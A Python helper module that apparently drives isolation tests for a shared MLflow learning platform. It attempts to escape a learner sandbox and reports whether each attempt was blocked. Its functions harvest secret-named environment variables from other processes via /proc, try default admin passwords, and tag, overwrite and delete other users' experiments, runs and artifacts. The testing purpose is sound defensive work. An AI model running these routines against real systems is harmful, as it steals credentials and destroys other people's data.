"""Shared by the hostile learners (copied into each one's folder): report each attack as blocked or SUCCEEDED (tests/test_isolation.py
reads these lines from the reports), then exit 1 so that the output is shown."""

import os
import re
import sys

RESULTS = []


def attempt(name):
    def wrap(fn):
        try:
            detail = fn()
        except Exception as e:  # the attack failed: that is the point
            line = f"ATTACK {name}: blocked ({type(e).__name__})"
        else:
            line = f"ATTACK {name}: {'SUCCEEDED ' + str(detail)[:200] if detail else 'blocked'}"
        RESULTS.append(line)
        print(line, flush=True)
        return fn
    return wrap


def finish():
    print(f"{len(RESULTS)} attacks tried", flush=True)
    sys.exit(1)


def listening_ports():
    """TCP ports listening on 127.0.0.1 (from /proc/net/tcp: no privilege needed)."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            parts = line.split()
            if parts[3] == "0A":  # LISTEN
                ports.add(int(parts[1].split(":")[1], 16))
    return sorted(ports)


SECRET_NAMES = re.compile(r"(PASSWORD|SECRET|ACCESS_KEY|STORE_URI|DB_URL|ROOT_USER)", re.I)


def secrets_in_environs():
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            environ = open(f"/proc/{pid}/environ", "rb").read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        found += [f"{pid}:{item.split('=')[0]}" for item in environ
                  if SECRET_NAMES.search(item.split("=")[0]) and "MLFLOW_TRACKING_PASSWORD" not in item]
    return found


def vandalise():
    """Through the MLflow REST API, with this learner's own credentials: touch everything not ours."""
    import base64
    import json
    import urllib.request

    uri = os.environ["MLFLOW_TRACKING_URI"].rstrip("/")
    mine = os.environ["HANDSON_EXPERIMENT"]

    def call(method, path, body=None, user=None):
        headers = {"Content-Type": "application/json"}
        user = user or (os.environ.get("MLFLOW_TRACKING_USERNAME"), os.environ.get("MLFLOW_TRACKING_PASSWORD"))
        if user[0]:
            headers["Authorization"] = "Basic " + base64.b64encode(f"{user[0]}:{user[1]}".encode()).decode()
        data = json.dumps(body).encode() if body is not None else None
        req = urllib.request.Request(uri + path, data=data, method=method, headers=headers)
        with urllib.request.urlopen(req, timeout=10) as resp:
            return json.loads(resp.read() or b"{}")

    learner = mine.split("-step")[0]

    @attempt("list other learners' experiments")
    def listing():
        found = call("POST", "/api/2.0/mlflow/experiments/search", {"max_results": 1000}).get("experiments", [])
        # This learner's own experiments (of its other steps) are its to see.
        return [e["name"] for e in found if e["name"].startswith("handson-") and not e["name"].startswith(learner + "-step")]

    @attempt("list other learners' registered models")
    def models():
        found = call("GET", "/api/2.0/mlflow/registered-models/search?max_results=1000").get("registered_models", [])
        return [m["name"] for m in found]

    @attempt("log in as the MLflow admin with a default password")
    def admin():
        for user in (("admin", "password1234"), ("admin", "admin"), ("handson-grader", "password1234")):
            try:
                call("GET", "/api/2.0/mlflow/users/list", user=user)
                return user
            except Exception:
                continue
        return None

    # Ours: the experiments of this learner's own steps (names carry the learner's folder name).
    own = {e["experiment_id"] for e in call("POST", "/api/2.0/mlflow/experiments/search",
                                            {"max_results": 1000, "view_type": "ALL"}).get("experiments", [])
           if e["name"].startswith(learner + "-step")}
    changed = []
    for exp_id in range(0, 120):
        for method, path, body in (
                ("POST", "/api/2.0/mlflow/experiments/set-experiment-tag",
                 {"experiment_id": str(exp_id), "key": "purpose", "value": "hacked"}),
                ("POST", "/api/2.0/mlflow/runs/search", {"experiment_ids": [str(exp_id)]}),
                ("PUT", f"/api/2.0/mlflow-artifacts/artifacts/{exp_id}/x/artifacts/file2.json", {"var1": 0}),
                ("POST", "/api/2.0/mlflow/experiments/delete", {"experiment_id": str(exp_id)})):
            try:
                answer = call(method, path, body)
            except Exception:
                continue
            if path.endswith("runs/search"):
                for run in answer.get("runs", []):
                    rid = run["info"]["run_id"]
                    for p2, b2 in (("/api/2.0/mlflow/runs/set-tag", {"run_id": rid, "key": "tagA", "value": "x"}),
                                   ("/api/2.0/mlflow/runs/log-metric", {"run_id": rid, "key": "mse", "value": 1,
                                                                       "timestamp": 0, "step": 7}),
                                   ("/api/2.0/mlflow/runs/delete", {"run_id": rid})):
                        try:
                            call("POST", p2, b2)
                            changed.append(f"{p2} {rid[:8]} {exp_id}")
                        except Exception:
                            pass
            elif answer is not None:
                changed.append(f"{path} {exp_id}")
    # Our own experiment is ours to change; anything else succeeding is an escape.
    changed = [c for c in changed if c.split()[-1] not in own]
    line = f"ATTACK change other experiments through the API: {'SUCCEEDED ' + str(changed[:5]) if changed else 'blocked'}"
    RESULTS.append(line)
    print(line, flush=True)
